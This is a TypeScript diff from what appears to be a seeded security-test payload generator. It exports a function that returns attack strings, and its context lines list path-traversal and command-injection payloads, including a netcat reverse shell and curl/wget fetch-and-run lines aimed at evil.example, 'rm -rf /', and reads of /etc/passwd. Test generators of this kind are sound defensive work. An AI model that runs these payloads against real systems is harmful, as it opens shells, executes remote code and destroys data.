@@ -255,6 +255,9 @@ const TRAVERSAL = ['../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/e
 const COMMAND = ['; cat /etc/passwd', '| nc evil.example 4444 -e /bin/sh', '`id`', '$(curl -s http://evil.example/x.sh | sh)', '&& wget http://evil.example/a -O /tmp/a',
   '; rm -rf / #', '|| ping -c 10 127.0.0.1']
 
+/** One attack payload of the kind (seeded). */
+export function attackPayload (r: Prng, kind: AttackKind): string { return payload(r, kind) }
+
 function payload (r: Prng, kind: AttackKind): string {
   switch (kind) {
     case 'sqli': return pick(r, SQLI)
